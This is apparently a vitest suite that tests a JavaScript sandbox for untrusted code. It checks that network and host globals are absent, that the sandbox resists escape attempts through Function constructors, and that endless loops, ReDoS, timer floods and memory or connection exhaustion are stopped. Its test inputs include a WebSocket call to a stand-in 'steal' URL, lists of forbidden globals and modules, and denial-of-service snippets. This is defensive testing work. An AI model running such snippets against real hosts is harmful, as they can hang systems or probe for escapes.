/** What a program could do to harm: reach for the world, or never come to an end. */
import { describe, expect, it } from 'vitest';
import { endOf, failuresOf, inTheSandbox } from '../testing/in-the-sandbox.ts';

describe('a program that reaches for the world', () => {
  const absent = [
    'fetch',
    'XMLHttpRequest',
    'EventSource',
    'WebTransport',
    'RTCPeerConnection',
    'indexedDB',
    'caches',
    'localStorage',
    'sessionStorage',
    'navigator',
    'document',
    'window',
    'self',
    'parent',
    'top',
    'location',
    'importScripts',
    'postMessage',
    'Worker',
    'SharedWorker',
    'BroadcastChannel',
    'MessageChannel',
    'WebAssembly',
    'Atomics',
    'Image',
    'Deno',
    'Bun',
    'std',
    'bjson',
  ];

  it.each(absent)('finds no %s', async (name) => {
    const { lines } = await inTheSandbox(
      `console.log(typeof ${name}, '${name}' in globalThis, typeof (0, eval)('typeof ${name}'));`,
    );
    expect(lines).toEqual(['undefined false string']);
  });

  it('finds no part of process that leads out', async () => {
    const { lines } = await inTheSandbox(
      `console.log(['binding', 'dlopen', 'mainModule', 'kill', 'chdir', '_linkedBinding', 'report']
         .filter((name) => name in process), Object.keys(process.env));`,
    );
    expect(lines).toEqual(['[] []']);
  });

  it.each([
    'fs',
    'node:fs',
    'child_process',
    'http',
    'worker_threads',
    'vm',
    'module',
    './other.js',
  ])('cannot require %s, and is told what there is', async (name) => {
    const run = await inTheSandbox(`const it = require('${name}');`);
    expect(failuresOf(run)).toMatchObject([
      {
        name: 'Error',
        message: expect.stringMatching(
          /^Cannot find module '.*'\. A program here can import amqplib, .* and util\.$/,
        ),
        place: { line: 1 },
      },
    ]);
  });

  it.each(['http://localhost/x.js', 'https://example.org/x.js', 'data:text/javascript,1', 'fs'])(
    'cannot import %s',
    async (name) => {
      const { lines } = await inTheSandbox(
        `await import('${name}').catch(({ message }) => console.log(message));`,
      );
      expect(lines).toEqual([expect.stringContaining(`Cannot find module '${name}'.`)]);
    },
  );

  it('gets to nothing but its own world by the constructors of what it is given', async () => {
    const { lines } = await inTheSandbox(`
      const seen = new Set();
      const global = [];
      const walk = (value) => {
        if (value === null || (typeof value !== 'object' && typeof value !== 'function')) return;
        if (seen.has(value)) return;
        seen.add(value);
        if (typeof value === 'function' && value.name === 'Function') {
          global.push(value('return this')() === globalThis);
          global.push(value('return typeof fetch + typeof process.binding + typeof document')());
        }
        for (const key of Reflect.ownKeys(value)) {
          const { value: inner, get, set } = Object.getOwnPropertyDescriptor(value, key);
          walk(inner); walk(get); walk(set);
        }
        walk(Object.getPrototypeOf(value));
      };
      walk(globalThis);
      walk(require);
      for (const name of ['net', 'stream', 'events', 'util', 'crypto']) walk(require(name));
      let thrown;
      try { require('fs'); } catch (error) { thrown = error; }
      walk(thrown);
      console.log(seen.size > 500, [...new Set(global)]);`);
    expect(lines).toEqual(["true [ true, 'undefinedundefinedundefined' ]"]);
  });

  it('finds nothing by which the sandbox itself is spoken to', async () => {
    const { lines } = await inTheSandbox(`
      const names = Reflect.ownKeys(globalThis).map(String);
      console.log(names.filter((name) => /host|__|inside|sandbox|machine/i.test(name)));
      console.log(typeof globalThis.exports, typeof globalThis.require, typeof globalThis.begin);`);
    expect(lines).toEqual(['[]', 'undefined undefined undefined']);
  });

  it('cannot speak TLS, and is told so', async () => {
    const run = await inTheSandbox(`require('amqplib').connect('amqps://elsewhere.example');`);
    expect(failuresOf(run)).toMatchObject([
      { message: expect.stringContaining('does not speak TLS'), place: { line: 1 } },
    ]);
  });

  it('has a WebSocket that leads to the broker of the scenario and nowhere else', async () => {
    const { outputs } = await inTheSandbox(
      `new WebSocket('wss://elsewhere.example/steal?what=1').onopen = () => console.log('open');`,
    );
    expect(outputs).toEqual([
      {
        type: 'connect',
        stream: 1,
        host: 'elsewhere.example',
        port: 443,
        place: { line: 1, column: expect.any(Number) },
      },
      expect.objectContaining({ type: 'console', text: 'open' }),
    ]);
  });

  it('does not run what is left of its own changes to the globals of the prelude', async () => {
    const { lines } = await inTheSandbox(`
      Array.prototype.push = () => { throw new Error('mine'); };
      Promise.prototype.then = () => { throw new Error('mine'); };
      JSON.parse = () => { throw new Error('mine'); };
      console.log('still here');`);
    expect(lines).toEqual(['still here']);
  });
});

describe('a program that does not come to an end', () => {
  const endless: Readonly<Record<string, string>> = {
    'a loop': 'for (;;) {}',
    'a loop that catches everything': 'for (;;) { try { for (;;) {} } catch {} }',
    'a loop in finally': 'try { for (;;) {} } finally { for (;;) {} }',
    recursion: 'const tree = (depth) => depth && tree(depth - 1) + tree(depth - 1); tree(60);',
    'a regular expression': `/^(a+)+$/.test('a'.repeat(40) + 'b');`,
    'a getter of a proxy': `new Proxy({}, { get() { for (;;) {} } }).x;`,
    'a comparison in sort': '[1, 2].sort(() => { for (;;) {} });',
    'text that is evaluated': `eval('for (;;) {}');`,
    'a function made of text': `new Function('for (;;) {}')();`,
    'a generator': 'const g = (function* () { for (;;) yield 1; })(); for (const one of g) {}',
    'toString of what is printed':
      'console.log({ get a() { for (;;) {} } }, `${{ toString() { for (;;) {} } }}`);',
    'a message of an error': `throw Object.defineProperty(new Error(), 'message', { get() { for (;;) {} } });`,
    'a callback of a timer': 'setTimeout(() => { for (;;) {} }, 5);',
    'a callback of a promise': 'Promise.resolve().then(() => { for (;;) {} });',
    'a handler of uncaught errors': `process.on('uncaughtException', () => { for (;;) {} }); nope();`,
    'what runs at exit': `process.on('exit', () => { for (;;) {} }); process.exit();`,
  };

  it.each(Object.entries(endless))('is stopped in %s', async (_, source) => {
    const run = await inTheSandbox(`\n${source}`, { until: 10 });
    expect(endOf(run)).toMatchObject({ type: 'stopped', reason: 'endless' });
    expect(run.nextTimer).toBeNull();
  });

  it.each<[string, number]>([
    ['let count = 0;\n\nfunction work() {\n  for (;;) count++;\n}\nwork();', 3],
    ['const all = [];\nall.push(1);\nwhile (all.length > 0) {\n  all.push(2);\n  all.pop();\n}', 2],
  ])('is stopped with the line before the loop that it was in: %j', async (source, line) => {
    expect(endOf(await inTheSandbox(source))).toMatchObject({ place: { line } });
  });

  it('is stopped at the same point each time', async () => {
    const source = `
      let count = 0;
      const note = () => { if (++count % 100_000 === 0) console.log(count); };
      for (;;) note();`;
    const [one, two] = [await inTheSandbox(source), await inTheSandbox(source)];
    expect(one.lines.length).toBeGreaterThan(10);
    expect(one).toEqual(two);
  });

  it('does nothing more once it is stopped', async () => {
    const { lines } = await inTheSandbox(
      `setTimeout(() => console.log('late'), 5);
       try { for (;;) {} } catch { console.log('caught'); } finally { console.log('finally'); }`,
      { until: 10 },
    );
    expect(lines).toEqual([]);
  });

  it('may take its time at one instant after another', async () => {
    const { lines, nextTimer } = await inTheSandbox(
      `let rounds = 0;
       const timer = setInterval(() => { for (let i = 0; i < 2e6; i++) {} rounds++; }, 10);
       setTimeout(() => { clearInterval(timer); console.log(rounds); }, 205);`,
      { until: 300 },
    );
    expect(lines).toEqual(['20']);
    expect(nextTimer).toBeNull();
  });

  const floods: Readonly<Record<string, string>> = {
    'callbacks of promises': 'const again = () => Promise.resolve().then(again); again();',
    'await in a loop': 'for (;;) await 0;',
    microtasks: 'const again = () => queueMicrotask(again); again();',
    'next ticks': 'const again = () => process.nextTick(again); again();',
  };

  it.each(Object.entries(floods))('is stopped in a flood of %s', async (_, source) => {
    const run = await inTheSandbox(source);
    expect(endOf(run)).toMatchObject({
      type: 'stopped',
      reason: expect.stringMatching(/^(endless|too-much-at-once|memory)$/),
    });
  });

  it('is stopped when it sets more timers than it may', async () => {
    const run = await inTheSandbox('for (;;) setTimeout(() => {}, 1_000);');
    expect(endOf(run)).toMatchObject({ reason: 'too-much-at-once' });
  });

  it('fires timers that set two others each only until there are too many', async () => {
    const run = await inTheSandbox(
      'const two = () => { setTimeout(two); setTimeout(two); }; two();',
      {
        until: 100,
      },
    );
    expect(endOf(run)).toMatchObject({ reason: 'too-much-at-once' });
  });
});

describe('a program that takes too much', () => {
  const greedy: Readonly<Record<string, string>> = {
    'a list that grows': 'const all = []; for (;;) all.push({ a: 1 });',
    'many buffers': 'const all = []; for (;;) all.push(new Uint8Array(1e6));',
    'one huge list': 'new Array(1e9).fill(1);',
    'long texts': `const all = []; for (;;) all.push('x'.repeat(1e6) + all.length);`,
    'buffers of Node': 'const all = []; for (;;) all.push(Buffer.allocUnsafe(1e6));',
  };

  it.each(Object.entries(greedy))('is stopped for %s', async (_, source) => {
    const run = await inTheSandbox(source);
    expect(endOf(run)).toMatchObject({ type: 'stopped', reason: 'memory' });
  });

  it('may hold some megabytes', async () => {
    const { lines } = await inTheSandbox(
      'const all = []; for (let i = 0; i < 20; i++) all.push(new Uint8Array(1e6)); console.log(all.length);',
    );
    expect(lines).toEqual(['20']);
  });

  it('is stopped when it breaks its machine, and the next one has another', async () => {
    const run = await inTheSandbox(
      'let deep = []; for (let i = 0; i < 1e5; i++) deep = [deep]; JSON.stringify(deep);',
    );
    expect(endOf(run)).toMatchObject({ reason: 'crashed' });
    expect((await inTheSandbox('console.log(1)')).lines).toEqual(['1']);
  });

  it('fails when it recurses too deep, and goes on', async () => {
    const run = await inTheSandbox(
      'setTimeout(() => console.log("on"), 1);\nfunction deeper() { deeper(); }\ndeeper();',
      { until: 5 },
    );
    expect(failuresOf(run)).toMatchObject([{ message: 'stack overflow', place: { line: 2 } }]);
    expect(run.lines).toEqual(['on']);
  });

  it('prints only so many lines at one instant, and only so much in one', async () => {
    const { lines } = await inTheSandbox(
      `console.log('x'.repeat(20_000)); for (let i = 0; i < 5_000; i++) console.log(i);`,
    );
    expect(lines).toHaveLength(1_001);
    expect(lines[0]).toMatch(/^x{10000}… 10000 more characters$/);
    expect(lines.at(-1)).toBe('More than 1000 lines at one instant: the others are left out.');
  });

  it('is stopped when it writes more than it may', async () => {
    const run = await inTheSandbox(`
      const socket = require('net').connect(5672, 'localhost');
      socket.on('connect', () => { for (;;) socket.write(Buffer.alloc(100_000)); });`);
    expect(endOf(run)).toMatchObject({ reason: 'too-much-at-once' });
  });

  it('cannot open more connections than it may', async () => {
    const run = await inTheSandbox(`for (let i = 0; i < 300; i++) require('net').connect(5672);`);
    expect(failuresOf(run)).toMatchObject([{ message: expect.stringContaining('256') }]);
    expect(run.outputs.filter(({ type }) => type === 'connect')).toHaveLength(256);
  });
});
